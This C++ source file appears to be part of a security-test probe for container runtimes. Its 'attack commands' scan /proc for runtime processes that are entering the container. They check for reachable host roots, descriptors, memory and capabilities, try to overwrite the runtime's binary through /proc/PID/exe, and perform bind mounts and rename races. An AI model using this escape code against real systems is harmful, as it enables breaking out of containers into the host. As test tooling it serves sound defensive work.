// What a hostile process in a container would try: look into the runtime's processes while they are on their way to
// become the container's, take what they hold, write to their image.
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cctype>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <set>

#include "probe.hpp"

namespace probe {

namespace {
double now() {
    timespec time{};
    clock_gettime(CLOCK_MONOTONIC, &time);
    return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_nsec) / 1e9;
}

std::string link_of(const std::string& path) {
    char target[4096];
    ssize_t n = readlink(path.c_str(), target, sizeof(target));
    return n < 0 ? "" : std::string(target, static_cast<std::size_t>(n));
}

std::vector<std::string> names_in(const std::string& path) {
    std::vector<std::string> names;
    if (DIR* directory = opendir(path.c_str())) {
        while (const dirent* entry = readdir(directory))
            if (isdigit(static_cast<unsigned char>(entry->d_name[0])) != 0) names.emplace_back(entry->d_name);
        closedir(directory);
    }
    return names;
}

bool is_payload(const std::string& image) {
    return image.ends_with("/probe") || image.ends_with("/busybox");
}

bool leads_out(const std::string& target) {
    return target.starts_with("(unreachable)");
}

unsigned long long capabilities_of(const std::string& pid) {
    int errnum = 0;
    const auto status = slurp("/proc/" + pid + "/status", errnum);
    const auto at = status.find("\nCapPrm:");
    return at == std::string::npos ? 0 : strtoull(status.c_str() + at + 8, nullptr, 16);
}

/// What of the process `pid` can be reached that is not the container's. Empty when nothing is.
std::string foreign_things_of(const std::string& pid) {
    const std::string base = "/proc/" + pid + "/";
    const auto image = link_of(base + "exe");
    if (image.empty() || is_payload(image)) return "";
    struct stat mine {
    }, theirs{};
    stat("/", &mine);
    if (stat((base + "root/.").c_str(), &theirs) == 0 && (mine.st_ino != theirs.st_ino || mine.st_dev != theirs.st_dev))
        return "root";
    if (leads_out(link_of(base + "cwd"))) return "cwd";
    for (const auto& fd : names_in(base + "fd"))
        if (atoi(fd.c_str()) > 2 && leads_out(link_of(base + "fd/" + fd))) return "descriptor " + fd;
    int memory = open((base + "mem").c_str(), O_RDWR | O_CLOEXEC);
    if (memory >= 0) close(memory);
    // Opened while the process was still the runtime's, not after it had become the program.
    if (memory < 0 || link_of(base + "exe") != image) return "";
    return capabilities_of(pid) & ~capabilities_of("self") ? "capabilities" : "memory";
}

/// watch SECONDS: prints `ready`, then what could be reached of the processes that came by, and how many those were.
/// Goes on for longer, up to ten times, where none has come by.
int watch(const Words& words) {
    const double seconds = atof(word(words, 0, "1").c_str());
    const double end = now() + seconds, last = now() + 10 * seconds;
    const auto self = std::to_string(getpid());
    printf("ready\n");
    fflush(stdout);
    std::set<std::string> found, seen;
    while (now() < end || (seen.empty() && now() < last)) {
        for (const auto& pid : names_in("/proc")) {
            if (pid == self) continue;
            seen.insert(pid);
            const auto thing = foreign_things_of(pid);
            if (!thing.empty()) found.insert(thing);
        }
    }
    print(Object().texts("found", {found.begin(), found.end()}).number("seen", static_cast<long long>(seen.size())));
    return 0;
}

/// Writes through /proc/PID/exe, by opening the image first and waiting until nobody executes it. 0 on success.
int overwrite_image(const std::string& pid) {
    int image = open(("/proc/" + pid + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
    if (image < 0) return -1;
    const auto again = "/proc/self/fd/" + std::to_string(image);
    int errnum = ETXTBSY;
    for (int attempt = 0; attempt < 20000 && errnum == ETXTBSY; ++attempt) {
        int writable = open(again.c_str(), O_WRONLY | O_CLOEXEC);
        errnum = writable < 0 ? errno : 0;
        if (writable < 0) continue;
        if (pwrite(writable, "#!owned\n", 8, 0) != 8) errnum = errno;
        close(writable);
    }
    close(image);
    return errnum;
}

/// steal-exe SECONDS: tries to overwrite every foreign image that is executed in the container.
int steal_image(const Words& words) {
    const double end = now() + atof(word(words, 0, "1").c_str());
    printf("ready\n");
    fflush(stdout);
    std::set<std::string> errors;
    int tried = 0;
    bool written = false;
    while (now() < end) {
        for (const auto& pid : names_in("/proc")) {
            const auto image = link_of("/proc/" + pid + "/exe");
            if (image.empty() || is_payload(image)) continue;
            const int errnum = overwrite_image(pid);
            if (errnum < 0) continue;
            ++tried;
            written |= errnum == 0;
            if (errnum > 0) errors.insert(strerrorname_np(errnum));
        }
    }
    print(Object().number("tried", tried).boolean("written", written).texts("errors", {errors.begin(), errors.end()}));
    return 0;
}

/// bind SOURCE TARGET: as a container with CAP_SYS_ADMIN does.
int bind_command(const Words& words) {
    int rc = mount(word(words, 0).c_str(), word(words, 1).c_str(), nullptr, MS_BIND | MS_REC, nullptr);
    print(Object().error(rc != 0 ? errno : 0));
    return 0;
}

int mount_tmpfs(const Words& words) {
    int rc = mount("tmpfs", word(words, 0).c_str(), "tmpfs", 0, nullptr);
    print(Object().error(rc != 0 ? errno : 0));
    return 0;
}

/// exchange ONE OTHER: a hook; what a process of another container does to names that it shares.
int exchange(const Words& words) {
    int rc = renameat2(AT_FDCWD, word(words, 0).c_str(), AT_FDCWD, word(words, 1).c_str(), RENAME_EXCHANGE);
    return rc == 0 ? 0 : 1;
}

/// mounted-below PREFIX FILE: a hook; appends to FILE each mount point of its namespace that begins with PREFIX.
int mounted_below(const Words& words) {
    int errnum = 0;
    const auto info = slurp("/proc/self/mountinfo", errnum);
    for (std::size_t at = 0; at < info.size();) {
        const auto end = info.find('\n', at);
        const auto line = info.substr(at, end - at);
        at = end == std::string::npos ? info.size() : end + 1;
        if (line.find(" " + word(words, 0)) == std::string::npos) continue;
        int fd = open(word(words, 1).c_str(), O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
        if (fd < 0 || write(fd, (line + "\n").c_str(), line.size() + 1) < 0) return 1;
        close(fd);
    }
    return 0;
}
}  // namespace

const Command kAttackCommands[] = {
    {"watch", watch},
    {"steal-exe", steal_image},
    {"bind", bind_command},
    {"mount-tmpfs", mount_tmpfs},
    {"mounted-below", mounted_below},
    {"exchange", exchange},
    {nullptr, nullptr},
};

}  // namespace probe
